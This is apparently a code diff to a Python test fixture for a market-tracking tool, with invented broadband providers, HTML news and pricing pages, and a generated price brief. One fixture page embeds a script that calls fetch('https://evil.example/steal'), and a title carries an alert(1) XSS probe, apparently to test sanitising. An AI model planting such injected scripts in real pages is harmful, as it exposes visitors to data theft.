@@ -5,7 +5,6 @@ The providers are invented. Tags and the brief are made by hand, so that these t
 
 from __future__ import annotations
 
-from collections.abc import Callable
 from dataclasses import dataclass, replace
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
@@ -36,6 +35,7 @@ from market.records import (
     Expansion,
     Importance,
     Issue,
+    Move,
     Offer,
     RunReport,
     Section,
@@ -129,10 +129,10 @@ BUILD = """<!doctype html><html><head><title>{title}</title>
 <p>EASLEY, S.C. - Bluewater Fiber said Thursday that it will build a fiber network in Easley that passes 8,400
 homes and businesses. Construction begins in January, and the first streets are to be connected before
 the summer is over.</p>
-<p>The company plans to spend $11.2 million on the project. It will offer speeds of up to 5 gigabits a second to
-households, and to shops and offices along Main Street, from which it expects a third of its sales.</p>
-<p>The mayor said that the city had talked with three companies over two years and that residents had asked for
-another choice more often than for anything else. Crews will restore each yard they cross, and the company
+<p>The company plans to spend $11.2 million on the project. It will offer speeds of up to 5 gigabits a second
+to households, and to shops and offices along Main Street, from which it expects a third of its sales.</p>
+<p>The mayor said that the city had talked with three companies over two years and that residents had asked
+for another choice more often than for anything else. Crews will restore each yard they cross, and the company
 will hold an open house at the library in December for all who would like to know more.</p>
 </article>
 <script>document.title = "taken over"; fetch("https://evil.example/steal");</script>
@@ -141,14 +141,16 @@ will hold an open house at the library in December for all who would like to kno
 BUILD_QUOTE = "passes 8,400 homes and businesses"
 
 UNDATED_TITLE = "Outage <script>alert(1)</script> in Spartanburg"
-UNDATED = """<!doctype html><html><head><title>{title}</title></head><body><article><h1>{title}</h1>
-<p>Customers of Pinnacle Ridge Broadband in Spartanburg were without service for most of a day after a truck hit
-a pole on the edge of town. The company said that a splice had to be made anew in the rain.</p>
+UNDATED = """<!doctype html><html><head><title>{title}</title>
+<link rel="canonical" href="https://www.paper.example/outage"></head><body><article><h1>{title}</h1>
+<p>Customers of Pinnacle Ridge Broadband in Spartanburg were without service for most of a day after a truck
+hit a pole on the edge of town. The company said that a splice had to be made anew in the rain.</p>
 <p>Shops took cash only, and the library closed its reading room. By the evening all lines were back, and the
 company promised a credit for one day to everyone who had been cut off by the accident.</p>
 </article></body></html>""".format(title=UNDATED_TITLE.replace("<", "&lt;").replace(">", "&gt;"))
 
-PLANS = """<!doctype html><html><head><title>Business internet plans</title></head><body><h1>Business internet</h1>
+PLANS = """<!doctype html><html><head><title>Business internet plans</title></head><body>
+<h1>Business internet</h1>
 <div class="plans">
 <div class="plan"><h3>Business 300</h3><p>300 Mbps</p><p class="price">$79.99/mo</p></div>
 <div class="plan"><h3>Business Gig</h3><p>1000 Mbps</p><p class="price">$169.99/mo</p></div>
@@ -314,6 +316,9 @@ def _tags(
     )
 
 
+WITHDRAWN = "Bluewater Fiber no longer lists Business 100, last listed at $59.99 a month."
+
+
 def _brief(build: Article, offer: Offer, week: str, starts: str, ends: str, at: datetime) -> Brief:
     priced = next(proof for proof in offer.evidence if proof.slot == "monthly_cents")
     line = Claim(
@@ -337,10 +342,33 @@ def _brief(build: Article, offer: Offer, week: str, starts: str, ends: str, at: 
     price = Claim(
         text="Bluewater Fiber: Business 300 now costs $79.99 a month.",
         evidence=(priced,),
+        citations=(
+            Citation(
+                capture_id=offer.capture_id,
+                url="https://bluewater.example/plans",
+                publisher="Bluewater Fiber plans",
+                on=offer.observed_at,
+                dated="captured",
+            ),
+        ),
+        move=Move(
+            kind="rise",
+            what="list price",
+            before_cents=7499,
+            after_cents=7999,
+            after_capture=offer.capture_id,
+        ),
         numbers=("$79.99",),
         kind="price",
         record_ids=(offer.id,),
         detail="business, Greenville, SC",
+    )
+    gone = Claim(
+        text=WITHDRAWN,
+        evidence=(priced.model_copy(update={"capture_id": "c0", "quote": "$59.99/mo"}),),
+        kind="price",
+        citations=price.citations,
+        move=Move(kind="withdrawn", what="list price", before_cents=5999, after_capture=offer.capture_id),
     )
     return Brief(
         id=brief_id("leader", week),
@@ -351,7 +379,7 @@ def _brief(build: Article, offer: Offer, week: str, starts: str, ends: str, at: 
         starts_on=starts,
         ends_on=ends,
         sections=(
-            Section(id="prices", title="Price moves", claims=(price,)),
+            Section(id="prices", title="Price moves", claims=(price, gone)),
             Section(id="builds", title="Builds in your territory", claims=(line,)),
             Section(id="news", title="News", empty="No news about your territory this week."),
         ),
@@ -455,7 +483,10 @@ def build_market(folder: Path) -> Market:
     ledger.finish_run(RunReport(run_id=RUN, started_at=NOW, finished_at=NOW, issues=(blocked,)))
     engine = TantivyEngine(made.settings.data / "index")
     sync(ledger, engine, lexicon=lexicon, gazetteer=gazetteer, zone=made.settings.market.zone)
-    opened: Callable[[], SearchEngine] = lambda: engine  # noqa: E731
+
+    def opened() -> SearchEngine:
+        return engine
+
     return Market(
         context=WebContext(
             ledger=ledger,
